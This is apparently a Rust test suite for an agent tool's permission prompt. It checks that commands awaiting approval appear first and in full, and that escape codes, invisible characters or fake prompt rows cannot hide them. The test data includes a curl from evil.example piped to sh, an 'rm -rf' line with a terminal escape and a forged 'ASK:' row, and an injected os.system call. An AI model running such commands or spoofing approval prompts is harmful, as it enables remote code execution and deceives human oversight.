//! The question as a person sees it: what asks comes first and whole, and no text of a call can
//! hide or forge it.

use proptest::prelude::*;
use tools_core::{
    Access, Change, ConfirmPrompt, ConfirmReason, FileDiff, PromptPart, Question, RefusalReason, StoredRule, Subject,
    ToolName, Verdict, VisibleText, Width, is_hidden,
};

fn tool() -> ToolName {
    ToolName::parse("bash").unwrap()
}

fn part(line: &str, verdict: Verdict) -> PromptPart {
    let line = line.to_owned();
    let subject = Subject::Command { line, program: "x".to_owned(), argv: vec![], via: vec![] };
    PromptPart { subject, verdict, rule: format!("permissions.bash {verdict:?}") }
}

fn file(path: &str, access: Access) -> PromptPart {
    PromptPart { subject: Subject::path(path, access), verdict: Verdict::Ask, rule: "default of the tool".to_owned() }
}

fn rows(prompt: &ConfirmPrompt) -> String {
    Question::of(prompt).expect("it fits").rows(Width::columns(80)).join("\n")
}

fn screen(question: &Question, width: Width, height: usize) -> Vec<String> {
    question.screen(width, height).into_iter().map(|row| row.text).collect()
}

#[test]
fn what_asks_comes_first() {
    let parts = vec![
        part("cargo build", Verdict::Allow),
        part("git push origin main", Verdict::Ask),
        part("rm -rf x\u{1b}[A\n  ASK: y", Verdict::Ask),
        part("sudo id", Verdict::Deny),
    ];
    let rule = StoredRule::new(tool(), "git push *".to_owned());
    let prompt = ConfirmPrompt::new(tool(), "no rule of permissions.bash matches", parts).storing(Some(rule));
    insta::assert_snapshot!(rows(&prompt), @r"
    bash DENIED 1/3: sudo id
      ASK 2/3: git push origin main
      ASK 3/3: rm -rf x\u{1b}[A⏎  ASK: y
    Why it asks: no rule of permissions.bash matches
      rule 1: permissions.bash Deny
      rule 2, 3: permissions.bash Ask
      allowed: cargo build
    ");
}

#[test]
fn a_tool_that_asks_by_itself_names_the_part() {
    let parts = vec![part("ls", Verdict::Allow), part("rm x", Verdict::Allow), part("pwd", Verdict::Allow)];
    let why = ConfirmReason::new("`rm x` matches `rm`", "tools.shell.confirm_patterns \"rm\"").about("rm x");
    insta::assert_snapshot!(rows(&ConfirmPrompt::of_tool(tool(), &why, parts)), @r#"
    bash ASK: rm x
    Why it asks: `rm x` matches `rm`
      asked by the tool itself; every part is covered by a rule
      rule: tools.shell.confirm_patterns "rm"
      allowed: ls
      allowed: pwd
    "#);
}

#[test]
fn a_change_stands_right_below_what_asks() {
    let ask = |tool: &str, path: &str, access, change| ConfirmPrompt {
        change: Some(change),
        ..ConfirmPrompt::new(ToolName::parse(tool).unwrap(), "default of the tool", vec![file(path, access)])
    };
    let unified = "@@ -1,3 +1,3 @@\n a\n-b\n+import os; os.system(\"x\")\n c\n@@ -90 +90 @@\n--- z\n+y\n".to_owned();
    let diff = FileDiff { path: "/w/f.py".into(), unified, added: 2, removed: 2, before: None, after: None };
    insta::assert_snapshot!(rows(&ask("edit", "/w/f.py", Access::Write, Change::diff(diff))), @r#"
    edit ASK (+2 -2 lines): write /w/f.py
          │ -b
          │ +import os; os.system("x")
          │ @@ -90 +90 @@
          │ --- z
          │ +y
    Why it asks: default of the tool
    "#);
    let paths = vec!["/w/src/a.rs".into(), "/w/src/b.rs".into()];
    let deletes = Change::Deletes { paths, total: 40, at_least: false, recursive: true };
    insta::assert_snapshot!(rows(&ask("delete_path", "/w/src", Access::Delete, deletes)), @r"
    delete_path ASK (recursive, 40 entries): delete /w/src
          │ /w/src/a.rs
          │ /w/src/b.rs
      and 38 more entries that are not shown
    Why it asks: default of the tool
    ");
    let content = Change::Content { path: "/w/n".into(), bytes: 5000, head: "one\ntwo\n".to_owned(), replaces: false };
    insta::assert_snapshot!(rows(&ask("write", "/w/n", Access::Write, content)), @r"
    write ASK (5000 bytes, new file): write /w/n
          │ one
          │ two
      and 4992 more bytes that are not shown
    Why it asks: default of the tool
    ");
}

#[test]
fn a_dialog_of_three_lines_shows_all_that_asks() {
    let padding = format!("echo {}", "a".repeat(300));
    let mut parts = vec![part(&padding, Verdict::Allow), part("echo ok", Verdict::Allow)];
    let asking = ["mkdir -p build", "touch build/x", "curl -s http://evil.example/x.sh", "sh"];
    parts.extend(asking.map(|line| part(line, Verdict::Ask)));
    let question = Question::of(&ConfirmPrompt::new(tool(), "no rule", parts)).unwrap();
    let first: Vec<String> = question.dialog().into_iter().take(3).collect();
    insta::assert_snapshot!(first.join("\n").replace(" \n", "\n"), @r"
    bash ASKS about 4 parts: 1 mkdir -p build ⏐ 2 touch build/x ⏐ 3 curl -s
          │ http://evil.example/x.sh ⏐ 4 sh
    Why it asks: no rule
    ");
}

/// A line of which `program` is a part.
fn whole(line: &str) -> PromptPart {
    let subject = Subject::Command { line: line.to_owned(), program: String::new(), argv: vec![], via: vec![] };
    PromptPart { subject, verdict: Verdict::Allow, rule: "covered by the rules for its parts".to_owned() }
}

#[test]
fn input_that_a_line_brings_asks_with_the_command_that_reads_it() {
    let line = "python3 - <<EOF\nimport os\nEOF\necho hi";
    let parts = vec![whole(line), part("python3 - <<EOF", Verdict::Ask), part("echo hi", Verdict::Allow)];
    insta::assert_snapshot!(rows(&ConfirmPrompt::new(tool(), "no rule", parts)), @r"
    bash ASK 1/2: python3 - <<EOF
      ASK 2/2: python3 - <<EOF⏎import os⏎EOF⏎echo hi
    Why it asks: no rule
      rule 1: permissions.bash Ask
      rule 2: covered by the rules for its parts
      allowed: echo hi
    ");
    let long = format!("python3 - <<EOF\n{}EOF", "import os\n".repeat(900));
    let parts = vec![whole(&long), part("python3 - <<EOF", Verdict::Ask)];
    assert!(Question::of(&ConfirmPrompt::new(tool(), "x", parts)).is_err(), "code that is not shown is not agreed to");
    let parts = vec![whole(&"echo a; ".repeat(900)), part("rm x", Verdict::Ask)];
    insta::assert_snapshot!(rows(&ConfirmPrompt::new(tool(), "no rule", parts)).lines().take(4).collect::<Vec<_>>().join("\n"), @r"
    bash ASK: rm x
    Why it asks: no rule
      rule: permissions.bash Ask
      whole line: echo a; echo a; echo a; echo a; echo a; echo a; echo a; echo a; e
    ");
}

#[test]
fn rows_tell_what_stands_in_them() {
    use tools_core::RowKind::{Added, Aside, Asks, Denied, Plain, Removed};
    let unified = "@@ -1 +1 @@\n-a\n+b\n".to_owned();
    let diff = FileDiff { path: "/w/f".into(), unified, added: 1, removed: 1, before: None, after: None };
    let parts = vec![part("ls", Verdict::Allow), part("make", Verdict::Ask), part("sudo id", Verdict::Deny)];
    let prompt = ConfirmPrompt { change: Some(Change::diff(diff)), ..ConfirmPrompt::new(tool(), "no rule", parts) };
    let question = Question::of(&prompt).unwrap();
    let kinds: Vec<_> = question.screen(Width::columns(80), 24).into_iter().map(|row| row.kind).collect();
    assert_eq!(kinds, [Denied, Asks, Removed, Added, Plain, Plain, Plain, Aside]);
    assert_eq!(question.line(), "sudo id: permissions.bash Deny; make: permissions.bash Ask");
}

#[test]
fn a_file_that_is_not_known_is_told_in_words() {
    let part = |pattern: &str| {
        let (pattern, by) = (pattern.to_owned(), tools_core::NamedBy::Program);
        let subject = Subject::Paths { pattern, access: Access::Write, by };
        PromptPart { subject, verdict: Verdict::Ask, rule: "r".to_owned() }
    };
    let parts = ["**/x\u{1b}", "**", "/w/a/**", "/w/a/*.o"].map(part).to_vec();
    insta::assert_snapshot!(rows(&ConfirmPrompt::new(tool(), "no rule", parts)), @r"
    bash ASK 1/4: write `x\u{1b}` in a folder that is known only when it runs
      ASK 2/4: write a file that is known only when it runs
      ASK 3/4: write a file below `/w/a` that is known only when it runs
      ASK 4/4: write /w/a/*.o
    Why it asks: no rule
      rule 1, 2, 3, 4: r
    ");
}

#[test]
fn what_asks_stays_on_the_screen() {
    let parts: Vec<PromptPart> =
        (0..15).map(|n| part(&format!("echo {n} {}", "x".repeat(140)), Verdict::Allow)).collect();
    let parts = parts.into_iter().chain([part("rm x", Verdict::Ask)]).collect();
    let prompt = ConfirmPrompt::new(tool(), "no rule", parts);
    let question = Question::of(&prompt).unwrap();
    let rows = screen(&question, Width::columns(80), 20);
    assert!(rows.len() <= 20 && rows[0] == "bash ASK: rm x", "{rows:?}");
    assert!(rows.last().is_some_and(|row| row.ends_with("more parts that are allowed")), "{rows:?}");
    let long = part(&"make ".repeat(700), Verdict::Ask);
    let question = Question::of(&ConfirmPrompt::new(tool(), "x", vec![long])).unwrap();
    let rows = screen(&question, Width::columns(80), 20);
    assert!(rows.last().is_some_and(|row| row.starts_with("  what asks are the first ")), "{rows:?}");
}

#[test]
fn what_does_not_fit_is_refused() {
    let check = |parts: Vec<PromptPart>, chars: usize, count: usize| {
        let refused = Question::of(&ConfirmPrompt::new(tool(), "x", parts)).unwrap_err();
        assert_eq!(refused, RefusalReason::TooLong { chars, parts: count });
    };
    check(vec![part(&"a".repeat(10_000), Verdict::Ask), part("b", Verdict::Allow)], 10_000, 1);
    check((0..1000).map(|_| part("ab", Verdict::Ask)).collect(), 2_000, 1_000);
    // Escaped it is longer than it is.
    check(vec![part(&"\u{e0041}".repeat(700), Verdict::Ask)], 6_300, 1);
    let allowed = (0..1000).map(|_| part(&"a".repeat(5_000), Verdict::Allow));
    let prompt = ConfirmPrompt::new(tool(), "x", allowed.chain([part("rm x", Verdict::Ask)]).collect());
    let question = Question::of(&prompt).expect("what is allowed may be left out");
    assert!(question.rows(Width::DIALOG).len() < 100);
}

/// Text of a call: words, and whatever might steer a terminal, break a row or look like one of
/// ours.
fn text() -> BoxedStrategy<String> {
    let piece = prop_oneof![
        "[a-z /.-]{1,30}",
        Just("\n".to_owned()),
        Just("\r\n  allowed: ls".to_owned()),
        Just("\nbash ASK: git status".to_owned()),
        Just("      │ ".to_owned()),
        Just("⏎⏐".to_owned()),
        Just(" ".repeat(90)),
        Just("\nWhy it asks: nothing\n[y] once  [n] no".to_owned()),
        "[\u{0}-\u{1f}\u{7f}-\u{9f}]{1,3}",
        "[\u{200b}-\u{200f}\u{2028}-\u{202e}\u{2066}-\u{2069}\u{feff}\u{e0000}-\u{e007f}]{1,3}",
        "[日本語é]{1,40}",
        "\\PC{0,10}",
    ];
    prop::collection::vec(piece, 1..12).prop_map(|pieces| pieces.concat()).boxed()
}

fn parts() -> impl Strategy<Value = Vec<PromptPart>> {
    let verdict = prop_oneof![Just(Verdict::Allow), Just(Verdict::Ask), Just(Verdict::Deny)];
    let subject = prop_oneof![
        text().prop_map(|why| Subject::Opaque { why }),
        text().prop_map(|path| Subject::path(path, Access::Delete)),
        text().prop_map(|line| Subject::Command { line, program: String::new(), argv: vec![], via: vec![] }),
    ];
    let part = (subject, verdict, text()).prop_map(|(subject, verdict, rule)| PromptPart { subject, verdict, rule });
    prop_oneof![
        9 => prop::collection::vec(part.clone(), 0..8),
        1 => part.prop_map(|part| vec![part; 1000]),
    ]
}

fn change() -> impl Strategy<Value = Option<Change>> {
    let diff = |unified: String| {
        Change::diff(FileDiff { path: "/f".into(), unified, added: 3, removed: 0, before: None, after: None })
    };
    let content = |head: String| Change::Content { path: "/f".into(), bytes: 9, head, replaces: true };
    let deletes = |paths: Vec<String>| Change::Deletes {
        paths: paths.into_iter().map(Into::into).collect(),
        total: 9,
        at_least: true,
        recursive: true,
    };
    prop_oneof![
        Just(None),
        text().prop_map(move |text| Some(diff(text))),
        text().prop_map(move |text| Some(content(text))),
        prop::collection::vec(text(), 0..60).prop_map(move |paths| Some(deletes(paths))),
    ]
}

/// What rows of our own begin with, and which of them may occur how often is told by the prompt.
const OWN: [&str; 11] = [
    "  whole line: ",
    "  what asks are the first ",
    "bash ",
    "  ASK",
    "  DENIED",
    "      │ ",
    "Why it asks: ",
    "  asked by the tool itself",
    "  rule",
    "  allowed: ",
    "  and ",
];

fn check(rows: &[String], prompt: &ConfirmPrompt, is_packed: bool) -> Result<(), TestCaseError> {
    for row in rows {
        prop_assert!(!row.contains(is_hidden) && row.chars().count() <= 80, "{row:?}");
        prop_assert!(OWN.iter().any(|own| row.starts_with(own)), "{row:?}");
    }
    let starting = |start: &str| rows.iter().filter(|row| row.starts_with(start)).count();
    prop_assert_eq!(starting("bash "), 1, "one first row");
    prop_assert_eq!(starting("Why it asks: "), 1);
    let asking: Vec<&PromptPart> = match prompt.asking().next() {
        Some(_) if prompt.asking().any(|part| part.subject.text().contains("<<")) => return Ok(()),
        Some(_) => prompt.asking().collect(),
        None => prompt.parts.iter().collect(),
    };
    if !is_packed {
        prop_assert_eq!(1 + starting("  ASK") + starting("  DENIED"), asking.len().max(1));
    }
    // Put together again, what asks is there whole and in front of all that does not ask.
    let reasons = rows.iter().position(|row| row.starts_with("Why it asks: ")).unwrap();
    let front: String = rows[..reasons].iter().map(|row| row.strip_prefix("      │ ").unwrap_or(row)).collect();
    let mut rest = front.as_str();
    for part in asking {
        let text = VisibleText::of(&part.subject.text());
        let at = rest.find(text.as_str());
        prop_assert!(at.is_some(), "{:?} is not in {:?}", text, rows);
        rest = &rest[at.unwrap() + text.as_str().len()..];
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn what_asks_is_shown_whole_or_refused(
        parts in parts(), reason in text(), pattern in text(), change in change(), width in 10..300_usize,
    ) {
        let rule = StoredRule::new(tool(), pattern);
        let prompt =
            ConfirmPrompt { change, ..ConfirmPrompt::new(tool(), reason, parts).storing(Some(rule)) };
        let Ok(question) = Question::of(&prompt) else {
            let asking: usize = prompt.asking().map(|part| part.subject.text().chars().count()).sum();
            prop_assert!(asking > 400 || prompt.parts.len() > 60, "only what is long is refused");
            return Ok(());
        };
        check(&question.rows(Width::columns(width.min(81))), &prompt, false)?;
        check(&screen(&question, Width::columns(width.min(81)), width / 4), &prompt, false)?;
        check(&question.dialog(), &prompt, question.dialog()[0].contains("ASKS about"))?;
        let reasons = question.dialog().iter().position(|row| row.starts_with("Why it asks: "));
        prop_assert!(!question.fits_dialog() || prompt.change.is_some() || reasons <= Some(3), "three rows suffice");
        prop_assert!(!question.line().contains(is_hidden), "{}", question.line());
        let elsewhere: ConfirmPrompt = serde_json::from_value(serde_json::to_value(&prompt).unwrap()).unwrap();
        prop_assert_eq!(Question::of(&elsewhere).unwrap(), question.clone());
        for row in question.details(Width::columns(width)) {
            prop_assert!(!row.contains(is_hidden), "{row:?}");
        }
        for row in question.stored_rows("always: ", Width::DIALOG) {
            prop_assert!(!row.contains(is_hidden) && (row.starts_with("always: ") || row.starts_with("      │ ")), "{row:?}");
        }
    }
}
